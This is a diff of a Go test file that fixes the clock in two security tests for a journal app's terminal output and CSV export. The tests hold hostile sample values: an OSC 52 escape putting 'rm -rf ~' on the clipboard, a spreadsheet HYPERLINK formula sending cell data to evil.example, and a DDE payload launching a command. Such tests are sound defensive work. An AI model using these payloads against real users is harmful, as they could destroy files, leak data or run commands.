@@ -27,7 +27,7 @@ func unsafeIn(out string) string {
 // "rm -rf ~" on the clipboard (OSC 52), then clears the screen.
 func TestJournalTextNeverReachesTheTerminalRaw(t *testing.T) {
 	const osc52 = `\u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2J`
-	s := session("s1", time.Now().Add(-time.Hour), journal.Finished, 3, 2)
+	s := session("s1", testNow.Add(-time.Hour), journal.Finished, 3, 2)
 	line := jsonOf(t, s, `"name":"Low back"`, `"name":"Low`+osc52+`back"`)
 	for _, r := range []struct{ from, to string }{
 		{`"session":"s1"`, `"session":"s1` + osc52 + `"`},
@@ -71,7 +71,7 @@ func TestJournalTextNeverReachesTheTerminalRaw(t *testing.T) {
 // single quote in front, as OWASP recommends for CSV exports, and every
 // text cell quoted, so that a separator inside one starts no new cell.
 func TestCSVExportHoldsNoFormula(t *testing.T) {
-	s := session("s1", time.Now().Add(-time.Hour), journal.Finished, 3, 2)
+	s := session("s1", testNow.Add(-time.Hour), journal.Finished, 3, 2)
 	s.Routine.Name = `=HYPERLINK("http://evil.example/?"&A1,"click")`
 	s.Routine.ID = "@SUM(1+1)"
 	s.Exercises[0].Name = "+1+cmd|' /C calc'!A0"
